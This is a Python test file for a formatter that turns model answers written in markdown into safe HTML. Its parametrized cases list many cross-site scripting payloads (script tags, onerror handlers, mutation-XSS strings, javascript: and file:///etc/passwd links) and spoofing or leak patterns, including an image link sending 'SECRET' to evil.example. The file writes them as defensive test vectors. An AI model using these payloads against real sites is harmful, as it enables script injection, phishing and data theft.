"""What a reader must see of answers from a hostile or unlucky model."""

import re

import pytest

from answers.formatting import formatted
from tests.formatting.reading import PREFIX, cleaned, grown, parsed, visible
from tests.formatting.snippets import CONSTRUCTS

SHOWN_AS_TEXT = [
    "<script>alert(1)</script>",
    "a <script>alert(1)</script> b",
    "<svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<style>body { display: none }</style>",
    "<form action=https://evil.example><input name=a></form>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "a <!-- hidden instructions --> b",
    "<!-- hidden",
    "</div></main></body></html>",
    "</p></li></code></pre></div><h1>x",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<![CDATA[ x ]]> <?php x ?> <!DOCTYPE html>",
    "javascript://a.example/%0aalert(1)",
    "www.evil.example ftp://x a@b.example",
    "It costs $5 and $10, or US$3 to HK$4; $HOME/$USER; $990/mo",
]
WITHOUT_ADDRESS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\x00script:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,hello)",
    "[x](file:///etc/passwd)",
    "[x](/a/1/delete/)",
    "[x](//evil.example/a)",
    "[x](\\\\evil.example)",
    "[x](#composer)",
    "[x](https:evil)",
    "[x]()",
    "![x](/i.png)",
    "[x][r]\n\n[r]: javascript:alert(1)",
]
# (input, what must be in the HTML, what must not be in it)
SEEN = [
    ("![c][i]\n\n[i]: https://evil.example/?q=SECRET", ['class="image"', ">c</a>"], ["<img", "src="]),
    ("[![a](https://e.example/1.png)](https://e.example/2)", [">a</a>", "e.example/2"], ["<img", "1.png"]),
    (
        '[x](https://a.example/"onmouseover="alert(1))',
        ["https://a.example/"],
        ['"onmouseover', ' onmouseover="'],
    ),
    ('[x](https://a.example "\\"><script>")', ["&quot;&gt;&lt;script"], ["<script"]),
    ('```"><script>\nx\n```', ["&lt;script&gt;"], ["<script"]),
    ("[bank](https://bank.example@evil.example/)", ['<bdi class="host">evil.example</bdi>'], []),
    ("[https://bank.example](https://evil.example/)", ['<bdi class="host">evil.example</bdi>'], []),
    ("[x](https://а.example/)", ['<bdi class="host">xn--80a.example</bdi>'], ["а.example</bdi>"]),
    ("[\u202emoc.elgoog](https://evil.example)", ["U+202E", "evil.example</bdi>"], ["\u202e"]),
    ("a\u202eb `c\u202ed` \U000e0041", ["U+202E", "U+E0041"], ["\u202e", "\U000e0041"]),
    ("[x](https://a.exa\u200bmple/)", ["https://a.example/"], ["\u200b"]),
    ("a\0b\x07c\x1b[31md", ["a\ufffdb\ufffdc\ufffd[31md"], ["\0", "\x07", "\x1b"]),
    ("&#xD800; &#x110000; &#0; &#2;", ["\ufffd \ufffd \ufffd \ufffd"], ["\2"]),
    ("lone \ud800 half", ["lone \ufffd half"], []),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", ["&lt;script&gt;"], ["<script"]),
    ("`&lt;b&gt;`", ["<code>&amp;lt;b&amp;gt;</code>"], []),
    ("a<br>b<BR/>c<br />d", ["a<br>b<br>c<br>d"], []),
    ("```python\nx = 1\n<script>", ["&lt;script&gt;", 'class="language">python<'], ["<script"]),
    ("**bold and *it", ["**bold and *it"], ["<strong", "<em"]),
    ("https://a.example/x. (https://b.example/(c))", ['a.example/x"', 'b.example/(c)"'], ['x."']),
    ("# composer\n\n## page", [">composer<", "<h4"], ["id="]),
    ("a[^1]\n\n[^1]: one", ['id="a1-n1"', 'href="#a1-n1"', 'id="a1-r1"'], []),
    ('a[^x"><img>]\n\n[^x"><img>]: t', ["&lt;img&gt;", 'id="a1-n1"'], ["<img"]),
    ("- [x] <b>a</b>", ['<input type="checkbox" disabled checked>', "&lt;b&gt;"], ["<b>"]),
    ("\\(\\href{javascript:alert(1)}{x}\\)", ['<code class="tex">'], ["href="]),
    ("\\(\\includegraphics{https://evil.example/x.png}\\)", ['<code class="tex">'], ["src=", "<a "]),
    ("\\[\\def\\a{\\a\\a}\\a\\]", ['<code class="tex">'], []),
    ("\\(\\hspace{-999em}x\\)", [], ["style=", '-999em"']),
    ("\\[\\begin{equation}x\\label{page}\\end{equation}\\]", [], ["id="]),
    ("\\(\\operatorname{</math><script>alert(1)</script>}\\)", [], ["<script"]),
    ("[a [^1] b](https://a.example) c", ['a [^1] b</a> <bdi class="host">a.example</bdi> c'], ["<sup"]),
    ("![[^1]](https://a.example) c", ["[^1]</a> <bdi"], ["<sup"]),
    ("- [ ] *[^_a] b_ c* d", ["<em>[^_a] b c</em> d</label>"], ["<sup"]),
    ("`a` \\``` \\(x\\)", ["<code>a</code> ``` <math"], []),
    ("`\\(x\\)` and\n```tex\n\\(x\\) $y$\n```", ["<code>\\(x\\)</code>"], ["<math"]),
    ("    \\(x\\) $y$\n", ["\\(x\\) $y$"], ["<math"]),
    ("1~2 and 3~4, ~5", ["1~2 and 3~4, ~5"], ["<s>"]),
    ("| a |\n|---|\n| `int | None` |", ['<td dir="auto"><code>int | None</code></td>'], []),
]


@pytest.mark.parametrize("text", SHOWN_AS_TEXT)
def test_this_is_shown_as_text(text):
    blocks = formatted(text, PREFIX)
    assert visible(blocks).replace(" ", "") == text.replace(" ", "").replace("&gt;", ">").replace("&lt;", "<")
    assert {tag for block in blocks for tag, _ in _tags(block)} <= {"p", "a"}


@pytest.mark.parametrize("text", WITHOUT_ADDRESS)
def test_such_an_address_is_no_link(text):
    html = "".join(formatted(text, PREFIX))
    assert "href" not in html
    assert ">x</a>" in html


@pytest.mark.parametrize(("text", "present", "absent"), SEEN)
def test_readers_see(text, present, absent):
    html = "".join(formatted(text, PREFIX))
    for part in present:
        assert part in html
    for part in absent:
        assert part not in html


def test_a_quote_ends_a_fence_in_it():
    blocks = formatted("> ```\n> a\nb", PREFIX)
    assert [block[:11] for block in blocks] == ["<blockquote", '<p dir="aut']
    assert "<code>a</code>" in blocks[0]


def test_ids_of_two_answers_differ():
    text = "a[^1]\n\n[^1]: one"
    assert 'id="b2-n1"' in "".join(formatted(text, "b2-"))
    assert "b2-" not in "".join(formatted(text, PREFIX))


@pytest.mark.parametrize("text", ["- " * 1_000 + "x", "> " * 1_000 + "x", "*a " * 500 + "x" + "*" * 500])
def test_depth_is_bounded_and_the_text_kept(text):
    html = "".join(formatted(text, PREFIX))
    depth = deepest = 0
    for event in parsed(html):
        depth += 1 if isinstance(event, tuple) else -1 if isinstance(event, str) else 0
        deepest = max(deepest, depth)
    assert 10 < deepest <= 26
    assert visible([html]).rstrip("*").endswith("x")


@pytest.mark.parametrize(
    "text",
    [
        "|a" * 3_000 + "\n" + "|-" * 3_000 + "\n" + "x\n" * 1_000,
        "a|" * 5_000 + "\n" + "-|" * 5_000 + "\n" + "x\n",
        "|a|b|\n|-|-|\n" + "|1|2|\n" * 3_000 + "x",
        "|a" * 60 + "\n" + "|-" * 60 + "\n" + "x\n" * 3_000,
        "- " + "|a" * 3_000 + "\n  " + "|-" * 3_000 + "\n" + "  |x\n" * 100,
    ],
)
def test_tables_are_bounded_and_the_text_kept(text):
    blocks = formatted(text, PREFIX)
    assert max(len(re.findall("<t[dh][ >]", block)) for block in blocks) <= 4_000
    assert sum(map(len, blocks)) < 40 * len(text)
    assert "x" in visible(blocks[-1:])


@pytest.mark.parametrize("text", [*SHOWN_AS_TEXT, *WITHOUT_ADDRESS, *(case[0] for case in SEEN), *CONSTRUCTS])
def test_a_sanitizer_changes_nothing(text):
    for blocks in (formatted(text, PREFIX), grown(text).blocks):
        for block in blocks:
            assert parsed(cleaned(block)) == parsed(block)


def test_the_sanitizer_of_the_tests_would_notice():
    for html in (
        '<p onclick="x">a</p>',
        "<p>a<script>b</script></p>",
        '<a href="javascript:x">a</a>',
        "<p style>a</p>",
    ):
        assert parsed(cleaned(html)) != parsed(html)


@pytest.mark.parametrize("text", [*(case[0] for case in SEEN), *CONSTRUCTS])
def test_each_block_is_one_element(text):
    for block in formatted(text + "\n\nEnd.\n", PREFIX):
        depth = 0
        for number, event in enumerate(parsed(block)):
            assert depth > 0 or number == 0
            is_void = isinstance(event, tuple) and event[0] in ("br", "hr", "input")
            depth += 0 if is_void else 1 if isinstance(event, tuple) else -1 if isinstance(event, str) else 0
        assert depth == 0


def _tags(block):
    return [event for event in parsed(block) if isinstance(event, tuple)]
